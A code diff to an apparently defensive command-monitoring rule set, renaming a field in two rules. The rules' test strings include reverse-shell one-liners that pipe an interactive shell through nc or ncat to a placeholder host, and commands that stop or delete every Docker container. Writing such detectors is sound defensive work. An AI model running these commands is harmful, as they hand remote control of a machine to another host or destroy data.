@@ -128,7 +128,7 @@ var monitoring = []rules.Rule{
 		Misses: []string{"nsenter -t 4242 -n ip a", "nsenter --help"},
 	},
 	{
-		ID: "net.shell", Class: rules.RemoteCode, Program: "nc ncat openssl telnet socat", Fed: "sh bash dash ash ksh mksh zsh fish script", Effect: grammar.Connects,
+		ID: "net.shell", Class: rules.RemoteCode, Program: "nc ncat openssl telnet socat", StdinFrom: "sh bash dash ash ksh mksh zsh fish script", Effect: grammar.Connects,
 		Reason: "sends what a shell answers to another host",
 		Hint:   "send a file that the shell wrote",
 		Hits:   []string{"mkfifo f; sh -i < f 2>&1 | nc h 4444 > f", "bash -i 2>&1 | ncat h 1", "script -qc bash /dev/null | nc h 1"},
@@ -170,7 +170,7 @@ var monitoring = []rules.Rule{
 		Misses: []string{"sshd -t", "man sshd"},
 	},
 	{
-		ID: "docker.rm-all", Former: "docker.all", Class: rules.Destructive, Program: "docker", Sub: "rm stop kill rmi container/rm container/stop container/kill image/rm volume/rm network/rm", Fed: "docker",
+		ID: "docker.rm-all", Former: "docker.all", Class: rules.Destructive, Program: "docker", Sub: "rm stop kill rmi container/rm container/stop container/kill image/rm volume/rm network/rm", StdinFrom: "docker",
 		Reason: "stops or deletes all that a list holds",
 		Hint:   "`docker ps` shows the list; name the containers",
 		Hits:   []string{"docker rm $(docker ps -aq)", "docker stop $(docker ps -q)", "docker kill `docker ps -q`"},
